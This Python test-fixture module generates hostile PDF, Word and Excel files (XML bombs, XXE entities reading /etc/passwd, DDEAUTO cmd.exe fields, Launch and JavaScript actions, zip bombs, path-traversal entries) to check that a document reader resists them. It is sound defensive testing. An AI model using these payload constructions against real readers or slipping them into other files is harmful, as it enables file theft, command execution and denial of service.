"""Small files that mean harm, made by the tests. Each says in its name what it tries; MARK stands in those that hold readable text too."""

from __future__ import annotations

import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen.canvas import Canvas

MARK = "Superintendent Hale will fit six motorway cars with cameras by March 2009."
AWAY = "http://192.0.2.1/away"
"""An address that answers nobody (RFC 5737)."""

Make = Callable[[Path], None]


def pdf(*objects: str | bytes, trailer: str = "/Root 1 0 R", tail: str = "") -> bytes:
    """A PDF of these objects, numbered from 1."""
    out, places = b"%PDF-1.7\n", list[int]()
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + (body.encode("latin-1") if isinstance(body, str) else body) + b"\nendobj\n"
    at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + f"trailer\n<< /Size {len(objects) + 1} {trailer} {tail.format(xref=at)} >>\nstartxref\n{at}\n%%EOF\n".encode()


def stream(data: bytes, entries: str = "") -> bytes:
    packed = zlib.compress(data, 9)
    return f"<< /Length {len(packed)} /Filter /FlateDecode {entries} >>\nstream\n".encode() + packed + b"\nendstream"


CATALOG = "<< /Type /Catalog /Pages 2 0 R %s >>"
PAGES = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> %s >> %s >>"
TEXT = stream(f"BT /F 12 Tf 60 700 Td ({MARK}) Tj ET".encode())
FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def plain(
    catalog: str = "", page: str = "", resources: str = "", text: bytes = TEXT, more: tuple[str | bytes, ...] = (), **keys: str
) -> bytes:
    """A sound PDF of one page with MARK on it, but for what is added."""
    return pdf(CATALOG % catalog, PAGES, PAGE % (resources, page), text, FONT, *more, **keys)


def forms(fan: int, depth: int) -> bytes:
    """A page that draws a form `fan` times, which draws a form `fan` times, and so on."""
    objects = []
    for level in range(depth):
        below = f"/Resources << /XObject << /N {7 + level} 0 R >> >>" if level < depth - 1 else ""
        objects.append(stream(b"/N Do " * fan if below else b"0 0 1 1 re f", f"/Type /XObject /Subtype /Form /BBox [0 0 9 9] {below}"))
    text = stream(f"BT /F 12 Tf 60 700 Td ({MARK}) Tj ET /N Do".encode())
    return plain(resources="/XObject << /N 6 0 R >>", text=text, more=tuple(objects))


def action(body: str) -> bytes:
    return plain(f"/OpenAction << {body} >> /AA << /WC << {body} >> >>", f"/AA << /O << {body} >> >>")


WORD_TYPES = """<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default
 Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml"
 ContentType="application/xml"/></Types>"""
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
WORD = (
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    f'xmlns:r="{RELATION}"><w:body>%s</w:body></w:document>'
)
SHEET = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>%s</sheetData>%s</worksheet>'


def relation(kind: str, target: str, mode: str = "") -> str:
    return f'<Relationship Id="r{kind}" Type="{RELATION}/{kind}" Target="{target}" {mode}/>'


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def package(path: Path, main: str, content: str | bytes, more: dict[str, str | bytes] | None = None) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", WORD_TYPES)
        archive.writestr("_rels/.rels", RELATIONS % relation("officeDocument", main))
        archive.writestr(main, content)
        for name, data in (more or {}).items():
            archive.writestr(name, data)


def word(body: str, more: dict[str, str | bytes] | None = None, head: str = "") -> Make:
    return lambda path: package(path, "word/document.xml", head + WORD % (paragraph(MARK) + body), more)


def workbook(rows: str, after: str = "", more: dict[str, str | bytes] | None = None) -> Make:
    book = (
        f'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{RELATION}">'
        '<sheets><sheet name="Plan" sheetId="1" r:id="rworksheet"/></sheets></workbook>'
    )
    parts: dict[str, str | bytes] = {
        "xl/_rels/workbook.xml.rels": RELATIONS % relation("worksheet", "worksheets/sheet1.xml"),
        "xl/worksheets/sheet1.xml": SHEET % (f'<row r="1"><c r="A1" t="inlineStr"><is><t>{MARK}</t></is></c></row>{rows}', after),
    }
    return lambda path: package(path, "xl/workbook.xml", book, parts | (more or {}))


def linked_part(path: Path) -> None:
    """A package one part of which is a symbolic link, and others with names that lead out of it."""
    word("")(path)
    with zipfile.ZipFile(path, "a") as archive:
        link = zipfile.ZipInfo("word/styles.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
        for name in ("../../outside.txt", "/tmp/outside.txt", "C:\\outside.txt"):
            archive.writestr(name, "outside")


def overlapping(path: Path) -> None:
    """Twenty thousand names for one part of 10 MB."""
    word("", {"word/media/a.bin": bytes(10_000_000)})(path)
    data = path.read_bytes()
    start, end = data.rindex(b"PK\x01\x02"), data.rindex(b"PK\x05\x06")
    entry, tail = data[start:end], bytearray(data[end:])
    copies = 20_000
    first = int.from_bytes(tail[16:20], "little")
    tail[8:12] = (copies + 4).to_bytes(2, "little") * 2
    tail[12:16] = (end - first + copies * len(entry)).to_bytes(4, "little")
    path.write_bytes(data[:end] + entry * copies + bytes(tail))


def laughs(kind: str) -> str:
    return (
        f'<!DOCTYPE {kind} [<!ENTITY a "ha">'
        + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
        + "]>"
    )


def entity(where: str) -> str:
    return f'<!DOCTYPE w:document [<!ENTITY out SYSTEM "{where}">]>'


def long_page_size(size: str) -> Make:
    data = plain().replace(b"[0 0 595 842]", size.encode())
    return lambda path: path.write_bytes(data)


def put(data: bytes) -> Make:
    return lambda path: path.write_bytes(data)


def deep_pdf(path: Path) -> None:
    path.write_bytes(plain("/Extra " + "[" * 200_000 + "]" * 200_000))


def attachment(path: Path) -> None:
    data = stream(b"MZ" + b"\0" * 100, "/Type /EmbeddedFile")
    spec = "<< /Type /Filespec /F (run.exe) /EF << /F 6 0 R >> >>"
    path.write_bytes(plain("/Names << /EmbeddedFiles << /Names [(run.exe) 7 0 R] >> >>", more=(data, spec)))


def empty_password(path: Path) -> None:
    canvas = Canvas(str(path), encrypt=StandardEncryption("", "owner"))
    canvas.drawString(60, 700, MARK)
    canvas.save()


READ: dict[str, Make] = {
    # Whatever they try, MARK is read of them and nothing else happens.
    "javascript.pdf": put(action("/S /JavaScript /JS (app.launchURL\\('http://192.0.2.1'\\);)")),
    "launch.pdf": put(action("/S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >>")),
    "remote-go-to.pdf": put(action(f"/S /GoToR /F << /FS /URL /F ({AWAY}) >> /D [0 /Fit]")),
    "submit-form.pdf": put(action(f"/S /SubmitForm /F << /FS /URL /F ({AWAY}) >>")),
    "uri.pdf": put(plain(page=f"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 500 800] /A << /S /URI /URI ({AWAY}) >> >>]")),
    "embedded-file.pdf": attachment,
    "recursive-form.pdf": put(forms(1, 1).replace(b"/BBox [0 0 9 9] ", b"/Resources << /XObject << /N 6 0 R >> >> /BBox [0 0 9 9]")),
    "xref-loop.pdf": put(plain(tail="/Prev {xref}")),
    "huge-page.pdf": long_page_size("[0 0 2e9 2e9]"),
    "page-count-that-lies.pdf": put(plain().replace(b"/Count 1 ", b"/Count 1000000000 ")),
    "page-size-no-number.pdf": long_page_size("[0 0 /A null]"),
    "deep-arrays.pdf": deep_pdf,
    "empty-password.pdf": empty_password,
    "macro.docm": word("", {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)}),
    "embedded-object.docx": word("", {"word/embeddings/oleObject1.bin": b"MZ" + bytes(600)}),
    "remote-template.docx": word(
        "", {"word/_rels/document.xml.rels": RELATIONS % relation("attachedTemplate", AWAY, 'TargetMode="External"')}
    ),
    "remote-picture.docx": word("", {"word/_rels/document.xml.rels": RELATIONS % relation("image", AWAY, 'TargetMode="External"')}),
    "link-out-of-the-package.docx": word("", {"word/_rels/document.xml.rels": RELATIONS % relation("styles", "../../../../etc/passwd")}),
    "link-to-an-absolute-path.docx": word("", {"word/_rels/document.xml.rels": RELATIONS % relation("footnotes", "file:///etc/passwd")}),
    "dde-field.docx": word('<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\cmd.exe"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'),
    "include-text-field.docx": word('<w:p><w:fldSimple w:instr="INCLUDETEXT /etc/passwd"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'),
    "names-that-lead-out.docx": linked_part,
    "last-corner.xlsx": workbook('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
    "merged-whole.xlsx": workbook("", '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
    "calls-out.xlsx": workbook(f'<row r="2"><c r="A2" t="str"><f>WEBSERVICE("{AWAY}")</f><v>kept</v></c></row>'),
    "external-link.xlsx": workbook("", more={"xl/externalLinks/externalLink1.xml": "<externalLink/>"}),
    "macro.xlsm": workbook("", more={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)}),
    "one-long-line.txt": put((MARK + " ").encode() * 200),
}

REFUSED: dict[str, tuple[Make, str]] = {
    # Nothing is read of them, and the reason says so.
    "page-tree-loop.pdf": (put(pdf(CATALOG % "", "<< /Type /Pages /Kids [2 0 R] /Count 1 >>")), "could not be read"),
    "page-count.pdf": (put(plain().replace(b"[3 0 R] /Count 1", b"[" + b"3 0 R " * 20_000 + b"] /Count 20000")), "20,000 pages"),
    "contents-loop.pdf": (put(pdf(CATALOG % "", PAGES, PAGE % ("", ""), "4 0 R", FONT)), "no text"),
    "length-loop.pdf": (put(pdf(CATALOG % "", PAGES, PAGE % ("", ""), "<< /Length 4 0 R >>\nstream\n\nendstream", FONT)), "no text"),
    "xml-bomb.docx": (word(paragraph("&i;"), head=laughs("w:document")), "declares XML entities"),
    "external-entity.docx": (word(paragraph("&out;"), head=entity("file:///etc/passwd")), "declares XML entities"),
    "remote-entity.docx": (word(paragraph("&out;"), head=entity(AWAY)), "declares XML entities"),
    "remote-dtd.docx": (word("", head=f'<!DOCTYPE w:document SYSTEM "{AWAY}">'), "declares XML entities"),
    "utf-16-entity.docx": (
        lambda path: package(path, "word/document.xml", (entity("file:///etc/passwd") + WORD % paragraph("&out;")).encode("utf-16")),
        "declares XML entities",
    ),
    "xml-bomb.xlsx": (
        lambda path: package(path, "xl/workbook.xml", laughs("workbook") + "<workbook>&i;</workbook>"),
        "declares XML entities",
    ),
    "deep-nesting.docx": (word("<w:sdt>" * 100_000 + "</w:sdt>" * 100_000), "nested too deep"),
    "zip-bomb.docx": (word("", {"word/media/a.bin": bytes(100_000_000)}), "would unpack to"),
    "many-names-for-one-part.docx": (overlapping, "would unpack to"),
}

TOO_MUCH: dict[str, Make] = {
    # They ask for more than any limit; their worker is stopped.
    "form-bomb.pdf": put(forms(30, 8)),
    "stream-bomb.pdf": put(plain(text=stream(b"q 0 0 1 1 re f Q " * 8_000_000))),
    "paragraph-bomb.docx": word(paragraph("a") * 1_400_000),
}
